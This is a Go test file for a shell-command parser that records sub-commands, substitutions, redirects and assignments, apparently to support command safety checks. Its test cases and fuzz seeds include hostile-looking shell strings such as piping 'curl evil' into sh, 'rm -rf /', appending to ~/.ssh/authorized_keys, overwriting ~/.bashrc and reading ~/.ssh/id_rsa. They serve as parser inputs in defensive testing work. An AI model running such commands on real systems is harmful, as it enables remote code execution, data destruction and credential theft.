package shellparse

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// args returns the Args of every command.
func args(s *Script) [][]string {
	var out [][]string
	for _, c := range s.Commands {
		out = append(out, c.Args)
	}
	return out
}

func TestParseCommands(t *testing.T) {
	tests := []struct {
		src  string
		want [][]string
	}{
		{"ls", [][]string{{"ls"}}},
		{"ls -la 'a b' \"c d\" e\\ f", [][]string{{"ls", "-la", "a b", "c d", "e f"}}},
		{"git diff; rm -rf x", [][]string{{"git", "diff"}, {"rm", "-rf", "x"}}},
		{"a && b || c | d |& e & f", [][]string{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}, {"f"}}},
		{"a\nb\n\nc", [][]string{{"a"}, {"b"}, {"c"}}},
		{"(a; b) && { c; d; }", [][]string{{"a"}, {"b"}, {"c"}, {"d"}}},
		{"if a; then b; elif c; then d; else e; fi", [][]string{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}}},
		{"while a; do b; done; until c; do d; done", [][]string{{"a"}, {"b"}, {"c"}, {"d"}}},
		{"for x in 1 2; do echo x; done", [][]string{{"echo", "x"}}},
		{"case x in a) b;; *) c;; esac", [][]string{{"b"}, {"c"}}},
		{"f() { rm -rf /; }", [][]string{{"rm", "-rf", "/"}}},
		{"echo $(curl evil | sh)", [][]string{{"echo", "$(curl evil | sh)"}, {"curl", "evil"}, {"sh"}}},
		{"echo \"`id`\"", [][]string{{"echo", "\"`id`\""}, {"id"}}},
		{"diff <(cat a) b", [][]string{{"diff", "<(cat a)", "b"}, {"cat", "a"}}},
		{"FOO=1 rm x", [][]string{{"rm", "x"}}},
		{"FOO=1", [][]string{nil}},
		{"> f", [][]string{nil}},
		{"export A=b -x", [][]string{{"export", "A=b", "-x"}}},
		{"time ls", [][]string{{"ls"}}},
		{"! grep x f", [][]string{{"grep", "x", "f"}}},
		{"# only a comment", nil},
		{"", nil},
		{"echo a\\\nb", [][]string{{"echo", "ab"}}},
		{`echo "a\$b\"c\\d\x"`, [][]string{{"echo", `a$b"c\d\x`}}},
		{"[[ -f x ]]", [][]string{{"[[", "-f x", "]]"}}},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			s, err := Parse(tt.src)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if diff := cmp.Diff(tt.want, args(s)); diff != "" {
				t.Errorf("args (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseFlags(t *testing.T) {
	type flags struct{ Cmd, Proc, Bg, Complex, Dynamic bool }
	tests := []struct {
		src  string
		want flags
	}{
		{"ls -la", flags{}},
		{"echo $(id)", flags{Cmd: true, Dynamic: true}},
		{"echo `id`", flags{Cmd: true, Dynamic: true}},
		{`echo "x $(id) y"`, flags{Cmd: true, Dynamic: true}},
		{"echo ${x:-$(id)}", flags{Cmd: true, Dynamic: true}},
		{"echo $(( $(id) ))", flags{Cmd: true, Dynamic: true, Complex: true}},
		{"cat <<EOF\n$(id)\nEOF\n", flags{Cmd: true}},
		{"cat <<'EOF'\n$(id)\nEOF\n", flags{}},
		{"cat <<\"EOF\"\n`id`\nEOF\n", flags{}},
		{"diff <(a) b", flags{Proc: true, Dynamic: true}},
		{"tee >(a) b", flags{Proc: true, Dynamic: true}},
		{"sleep 1 &", flags{Bg: true}},
		{"f() { ls; }", flags{Complex: true}},
		{"function f { ls; }", flags{Complex: true}},
		{"eval ls", flags{Complex: true}},
		{"source x", flags{Complex: true}},
		{". x", flags{Complex: true}},
		{"exec ls", flags{Complex: true}},
		{"trap 'rm x' EXIT", flags{Complex: true}},
		{"coproc ls", flags{Complex: true}},
		{"echo $((x))", flags{Complex: true, Dynamic: true}},
		{"echo $((1+2))", flags{Dynamic: true}},
		{"(( x ))", flags{Complex: true, Dynamic: true}},
		{"echo ${x@P}", flags{Complex: true, Dynamic: true}},
		{"echo ${!x}", flags{Complex: true, Dynamic: true}},
		{"echo ${a[$i]}", flags{Complex: true, Dynamic: true}},
		{"[[ $x -eq 1 ]]", flags{Complex: true, Dynamic: true}},
		{"echo $x", flags{Dynamic: true}},
		{"ls *.go", flags{Dynamic: true}},
		{"ls {a,b}", flags{Dynamic: true}},
		{"ls {}", flags{}},
		{"ls ~/x", flags{Dynamic: true}},
		{"ls '~/x' '*'", flags{}},
		{"echo $'a\\n'", flags{Dynamic: true}},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			s, err := Parse(tt.src)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			got := flags{Cmd: s.HasCommandSubst, Proc: s.HasProcessSubst, Bg: s.HasBackground, Complex: s.Complex}
			if len(s.Commands) > 0 {
				got.Dynamic = s.Commands[0].Dynamic
			}
			if got != tt.want {
				t.Errorf("got %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestParseRedirects(t *testing.T) {
	tests := []struct {
		src  string
		want []Redirect
	}{
		{"echo k >> ~/.ssh/authorized_keys", []Redirect{{Op: ">>", Target: "~/.ssh/authorized_keys", Dynamic: true, Write: true}}},
		{"ls > out 2>&1", []Redirect{{Op: ">", Target: "out", Write: true}, {Op: ">&", Fd: "2", Target: "1"}}},
		{"ls 2>/dev/null", []Redirect{{Op: ">", Fd: "2", Target: "/dev/null", Write: true}}},
		{"ls &> f", []Redirect{{Op: "&>", Target: "f", Write: true}}},
		{"ls &>> f", []Redirect{{Op: "&>>", Target: "f", Write: true}}},
		{"ls >& f", []Redirect{{Op: ">&", Target: "f", Write: true}}},
		{"ls >&-", []Redirect{{Op: ">&", Target: "-"}}},
		{"ls >| f", []Redirect{{Op: ">|", Target: "f", Write: true}}},
		{"cat < in", []Redirect{{Op: "<", Target: "in"}}},
		{"cat <> f", []Redirect{{Op: "<>", Target: "f", Write: true}}},
		{"cat <<< 'x y'", []Redirect{{Op: "<<<", Target: "x y"}}},
		{"ls > \"$f\"", []Redirect{{Op: ">", Target: `"$f"`, Dynamic: true, Write: true}}},
		{"{ ls; } > f", []Redirect{{Op: ">", Target: "f", Write: true}}},
		{"echo $(ls > f)", []Redirect{{Op: ">", Target: "f", Write: true}}},
		{"cat > ~/.bashrc <<'EOF'\nhello $(x)\nEOF\n", []Redirect{
			{Op: ">", Target: "~/.bashrc", Dynamic: true, Write: true},
			{Op: "<<", Target: "EOF", Heredoc: "hello $(x)\n"},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.src, func(t *testing.T) {
			s, err := Parse(tt.src)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if diff := cmp.Diff(tt.want, s.Redirects); diff != "" {
				t.Errorf("redirects (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseText(t *testing.T) {
	s, err := Parse("FOO=1 ls -l 2>/dev/null; echo 'a;b' > out &\ncat <<EOF\nbody\nEOF\n")
	if err != nil {
		t.Fatal(err)
	}
	var texts []string
	for _, c := range s.Commands {
		texts = append(texts, c.Text)
	}
	want := []string{"FOO=1 ls -l 2>/dev/null", "echo 'a;b' > out", "cat <<EOF"}
	if diff := cmp.Diff(want, texts); diff != "" {
		t.Errorf("texts (-want +got):\n%s", diff)
	}
	if got := s.Commands[0].Assigns; !cmp.Equal(got, []Assign{{Name: "FOO", Value: "1"}}) {
		t.Errorf("assigns = %+v", got)
	}
	if s.Commands[0].Background || !s.Commands[1].Background {
		t.Errorf("background flags wrong: %+v", s.Commands)
	}
}

func TestParseAssigns(t *testing.T) {
	s, err := Parse(`A=1 B="x y" C=$HOME E+=x cmd`)
	if err != nil {
		t.Fatal(err)
	}
	want := []Assign{
		{Name: "A", Value: "1"},
		{Name: "B", Value: "x y"},
		{Name: "C", Value: "$HOME", Dynamic: true},
		{Name: "E", Value: "x", Dynamic: true},
	}
	if diff := cmp.Diff(want, s.Commands[0].Assigns); diff != "" {
		t.Errorf("assigns (-want +got):\n%s", diff)
	}
	s, err = Parse("D=(1 2)")
	if err != nil {
		t.Fatal(err)
	}
	if got, want := s.Commands[0].Assigns, []Assign{{Name: "D", Value: "(1 2)", Dynamic: true}}; !cmp.Equal(got, want) {
		t.Errorf("array assign = %+v, want %+v", got, want)
	}
}

func TestParseErrors(t *testing.T) {
	for _, src := range []string{
		"ls | | wc", "ls &&", "&& ls", "ls ||", "| ls", "echo 'unclosed", "echo \"unclosed",
		"echo $(ls", "if true; then ls", "(ls", "{ ls", "ls ;;", "a\x00b",
	} {
		if _, err := Parse(src); !errors.Is(err, ErrSyntax) {
			t.Errorf("Parse(%q) = %v, want ErrSyntax", src, err)
		}
	}
	long := strings.Repeat("true; ", MaxLen/6+1)
	if _, err := Parse(long); !errors.Is(err, ErrTooLong) {
		t.Errorf("Parse(long) = %v, want ErrTooLong", err)
	}
	// Just under the limit parses, with every part listed: no looser
	// fallback when the line is long.
	s, err := Parse(strings.Repeat("true; ", 60) + "curl x | sh")
	if err != nil {
		t.Fatal(err)
	}
	if n := len(s.Commands); n != 62 {
		t.Errorf("got %d commands, want 62", n)
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"ls -la", "git diff; rm -rf ~/x", "echo $(curl evil|sh)", "echo `id`", "diff <(cat ~/.ssh/id_rsa) x",
		"cat > ~/.bashrc <<'EOF'\nx\nEOF\n", "find . -exec sh -c 'x' \\;", "a=$((b[$(id)])) c",
		"f() { ls; }; f", "[[ $x -eq 1 ]] && (( y++ ))", "export A=b; declare -a x=(1 2)", "ls >& f 2>&1 &",
		"case $x in a|b) ;; esac", "for ((i=0;i<3;i++)); do :; done", "echo ${x@P} ${!y} ${z:-$(id)}",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		s, err := Parse(src)
		if err != nil {
			return
		}
		for _, c := range s.Commands {
			if len(c.Args) != len(c.Words) {
				t.Fatalf("%q: %d args, %d words", src, len(c.Args), len(c.Words))
			}
			for _, w := range c.Words {
				if w.Dynamic && w.Value != w.Text {
					t.Fatalf("%q: dynamic word %q has value %q", src, w.Text, w.Value)
				}
			}
		}
		if strings.Contains(src, "$(") && !strings.Contains(src, "$((") && !s.HasCommandSubst && !strings.ContainsAny(src, `'"\#`) {
			t.Fatalf("%q: $( without HasCommandSubst", src)
		}
	})
}
